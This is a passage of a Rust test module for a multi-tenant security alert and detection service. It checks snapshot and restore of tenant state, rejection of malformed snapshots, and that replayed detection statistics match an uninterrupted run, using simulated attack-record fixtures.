            kind: alertlib::alert::SnapKey::USER,
            id: before.sym_universe.len() as u32,
        };
        let bad = ServiceSnapshot::from_json(&bad.to_json()).expect("decodes");
        match service.restore(bad) {
            Err(ServiceError::MalformedSnapshot(why)) => {
                assert!(why.starts_with("tagger.entities[0].entity"), "{why}")
            }
            other => panic!("expected MalformedSnapshot, got {other:?}"),
        }
        assert_eq!(
            service.snapshot(t1).unwrap(),
            before,
            "restore is all-or-nothing"
        );
        service
            .ingest(t2, (0..10).map(probe_record).collect())
            .unwrap();
        let reports = service.shutdown();
        let tenants: Vec<TenantId> = reports.iter().map(|(t, _)| *t).collect();
        assert_eq!(tenants, vec![t1, t2]);
        assert_eq!(reports[0].1.stats.detections, 1);
        assert_eq!(reports[1].1.stats.records, 4 + 10);
    }

    /// A refused restore into a tenant with no session leaves nothing
    /// behind: no session, no symbol scope, no final report.
    #[test]
    fn refused_restore_of_an_absent_tenant_leaves_no_tenant() {
        let source = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let (t, other) = (TenantId(1), TenantId(2));
        source.ingest(t, attack_records("eve", 0)).unwrap();
        let mut bad = source.snapshot(t).unwrap();
        drop(source);
        bad.tagger.as_mut().unwrap().entities[0].entity = alertlib::alert::SnapKey {
            kind: alertlib::alert::SnapKey::USER,
            id: bad.sym_universe.len() as u32,
        };

        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        service.ingest(other, attack_records("trent", 0)).unwrap();
        match service.restore(bad) {
            Err(ServiceError::MalformedSnapshot(why)) => {
                assert!(why.starts_with("tagger.entities[0].entity"), "{why}")
            }
            other => panic!("expected MalformedSnapshot, got {other:?}"),
        }
        assert_eq!(service.snapshot(t), Err(ServiceError::UnknownTenant(t)));
        assert_eq!(service.symbols().tenants(), vec![other]);
        let reports = service.shutdown();
        let tenants: Vec<TenantId> = reports.iter().map(|(t, _)| *t).collect();
        assert_eq!(
            tenants,
            vec![other],
            "no final report for the refused tenant"
        );
    }

    /// The tentpole invariant: snapshot mid-stream, restart into a fresh
    /// service (through the JSON wire format), replay the tail — stats
    /// and detections must be byte-identical to the uninterrupted run.
    #[test]
    fn snapshot_restore_replay_matches_uninterrupted_run() {
        let correlated_factory = |_, scope: SymScope| {
            PipelineBuilder::new()
                .tagger(AttackTagger::new(
                    toy_training_model(),
                    TaggerConfig {
                        temporal: TemporalPolicy {
                            session_timeout: Some(SimDuration::from_hours(2)),
                            ..TemporalPolicy::disabled()
                        },
                        max_entities: 64,
                        ..TaggerConfig::default()
                    },
                ))
                .correlation(CorrelationPolicy::default())
                .scope(scope)
                .build()
        };
        let tenant = TenantId(42);
        // Interleave two attack chains with probe noise so the snapshot
        // cuts through live posteriors, filter windows and campaign state.
        let stream: Vec<Vec<LogRecord>> = vec![
            attack_records("eve", 100),
            (0..300).map(probe_record).collect(),
            attack_records("mallory", 900),
            (300..600).map(probe_record).collect(),
            attack_records("trudy", 7_200),
        ];

        // Reference: uninterrupted run.
        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        for batch in &stream {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let mut reports = service.shutdown();
        let (_, reference) = reports.pop().unwrap();

        // Interrupted: head, snapshot → JSON → parse, restart, tail.
        let split = 2;
        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        for batch in &stream[..split] {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let snap = service.snapshot(tenant).unwrap();
        drop(service); // the "crash"

        let wire = snap.to_json();
        let parsed = ServiceSnapshot::from_json(&wire).expect("wire format parses");
        assert_eq!(parsed, snap, "JSON round-trip is lossless");

        let service = ServiceHandle::spawn(ServiceConfig::default(), correlated_factory);
        service.restore(parsed).unwrap();
        for batch in &stream[split..] {
            service.ingest(tenant, batch.clone()).unwrap();
        }
        let mut reports = service.shutdown();
        let (_, stitched) = reports.pop().unwrap();

        assert_eq!(stitched.stats, reference.stats, "zero detection drift");
        assert_eq!(stitched.filter, reference.filter);
        assert_eq!(stitched.campaigns, reference.campaigns);
        assert_eq!(
            stitched.correlated_promotions,
            reference.correlated_promotions
        );
        assert_eq!(
            stitched.correlated_confirmations,
            reference.correlated_confirmations
        );
        assert!(
            reference.stats.detections >= 3,
            "workload must actually detect: {}",
            reference.stats.detections
        );
    }

    #[test]
    fn restored_tenant_symbol_universe_carries_over() {
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        let tenant = TenantId(5);
        service.ingest(tenant, attack_records("eve", 0)).unwrap();
        let snap = service.snapshot(tenant).unwrap();
        assert!(
            snap.sym_universe.iter().any(|s| s == "eve"),
            "ingested user names populate the scoped universe: {:?}",
            snap.sym_universe
        );
        drop(service);
        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
        service.restore(snap).unwrap();
        let again = service.snapshot(tenant).unwrap();
        assert!(again.sym_universe.iter().any(|s| s == "eve"));
    }

    #[test]
    fn stats_only_tuning_flows_through_service() {
        // Retention-off pipelines report discards, not drops, through
        // the service path too (PR 8 accounting fix).
        let service = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
            PipelineBuilder::new()
                .tuning(PipelineTuning {
                    alert_retention: 0,
                    ..PipelineTuning::default()
                })
                .scope(scope)
                .build()
        });
        let tenant = TenantId(1);
        service
            .ingest(tenant, (0..500).map(probe_record).collect())
            .unwrap();
        let (_, report) = service.shutdown().pop().unwrap();
        assert!(report.stats.admitted > 0);
        assert_eq!(report.alerts_dropped, 0);
        assert_eq!(report.alerts_discarded, report.stats.admitted);
    }
}
